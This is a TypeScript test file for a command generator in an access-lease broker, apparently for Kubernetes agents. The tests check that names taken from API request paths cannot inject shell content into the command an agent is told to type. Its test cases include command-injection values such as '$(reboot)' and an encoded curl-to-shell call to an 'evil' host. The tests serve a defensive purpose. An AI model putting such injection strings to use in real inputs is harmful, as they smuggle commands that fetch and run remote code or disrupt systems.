import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import type { TaskTemplate } from '../../../src/policy/policy.ts'
import { requestCommand } from '../../../src/policy/template/commands/request-command.ts'
import { type Asking, sameAgain, waysIn } from '../../../src/policy/template/ways-in.ts'
import { aPolicy, aRule, aTemplate, leaseOf } from '../a-policy.ts'
import { aRequest } from '../a-request.ts'

const reads = aRule({ verbs: ['get'], apiGroups: [''], resources: ['pods'] })
const readsOne = aRule({
  verbs: ['get'],
  apiGroups: ['apps'],
  resources: ['deployments'],
  resourceNames: ['{web}'],
})
const narrow = aTemplate({ rules: [aRule({ verbs: ['list'], apiGroups: [''], resources: ['pods'] })] })

/** What an agent with a lease for less is told to type. */
function told(line: string, wide: Partial<TaskTemplate>, namespaces: readonly string[] = ['x']): string {
  const template = aTemplate({ name: 'wide', rules: [reads, readsOne], ...wide })
  const policy = aPolicy({ templates: [narrow, template], boundaryNamespace: '' })
  const [way] = waysIn({ request: aRequest(line), lease: leaseOf(narrow, { namespaces }), policy, above: [] })
  return way?.kind === 'ask' ? requestCommand(way) : 'none'
}

/** Words, the two quotes of our own, and nothing else that a shell reads. */
const HARMLESS = /^(?:leasegate lease revoke [\w.:-]+ && )?leasegate(?: (?:[\w.:=…-]+|'\*'|'WHY'))+$/

describe('requestCommand: nobody gets a word of their own into what the agent is told to type', () => {
  test.each([
    { what: 'a command in a name', name: '$(reboot)' },
    { what: 'a command in a name, percent-encoded', name: '$(curl%20evil%7Csh)' },
    { what: 'a quote', name: "a'b" },
    { what: 'a name of words alone that the template does not take', name: 'db-main' },
    { what: 'an option', name: '--ttl' },
  ])('$what', ({ name }) => {
    expect(told(`GET /api/v1/namespaces/x/pods/${name}`, { parameters: { web: 'web-[a-z]+' } })).toBe(
      "leasegate lease request --template wide --namespace x --param web=… --reason 'WHY'",
    )
  })

  test('a name that the template takes stands there', () => {
    const line = 'GET /apis/apps/v1/namespaces/x/deployments/web-shop'
    expect(told(line, { parameters: { web: 'web-[a-z]+' } })).toContain(' --param web=web-shop ')
  })

  test('a parameter that is called as what every object has is filled as any other', () => {
    const line = 'GET /api/v1/namespaces/x/pods/web'
    expect(told(line, { parameters: { constructor: 'web', valueof: 'other' } })).toContain(
      ' --param constructor=web --param valueof=… ',
    )
  })

  test('whatever the object, the namespace and the pattern are', () => {
    const odd = fc.string({ unit: fc.constantFrom(...'ab-.$(){}`\'"|&;<>\\*?~!# \n=…'), minLength: 1, maxLength: 12 })
    const inPath = fc.string({ unit: fc.constantFrom(..."ab-.$()'!~"), maxLength: 12 })
    const pattern = fc.constantFrom('.*', '[a-z]+', '[^/]+')
    fc.assert(
      fc.property(inPath, odd, odd, pattern, (path, name, text, web) => {
        const line = `GET /api/v1/namespaces/x/pods/a${path}`
        const asked = told(line, { parameters: { web } })
        expect(asked).toMatch(HARMLESS)
        const asking: Asking = {
          kind: 'ask',
          template: text,
          namespaces: [name, '*'],
          ttlMs: 60_000,
          instead: text,
          parameters: { [text]: name },
        }
        expect(requestCommand(asking).replace('revoke … &&', 'revoke a &&')).toMatch(HARMLESS)
      }),
    )
  })
})

describe('what is told to be typed is what the broker takes', () => {
  test('a template for one namespace is not proposed for several', () => {
    const rules = [aRule({ resources: ['nodes'], scope: 'cluster' }), aRule({ resourceNames: ['{namespace}'] })]
    const wide = { rules, parameters: { namespace: '.+' }, grants: [{ agent: 'bot', namespaces: ['x', 'y'] }] }
    expect(told('GET /api/v1/nodes/n', wide, ['x'])).toContain('--namespace x ')
    expect(told('GET /api/v1/nodes/n', wide, ['x', 'y'])).toBe('none')
  })

  test('the same once more is filled by the parameters of today', () => {
    const template = aTemplate({ parameters: { kept: '[a-z]+', narrowed: 'b+', added: '.+' } })
    const parameters = { kept: 'web', narrowed: 'a', gone: 'web' }
    const way = sameAgain(aPolicy({ templates: [template] }), leaseOf(template, { parameters }), 'ended')
    expect(way === null ? '' : requestCommand(way)).toContain(' --param kept=web --param narrowed=… --param added=… -')
  })
})
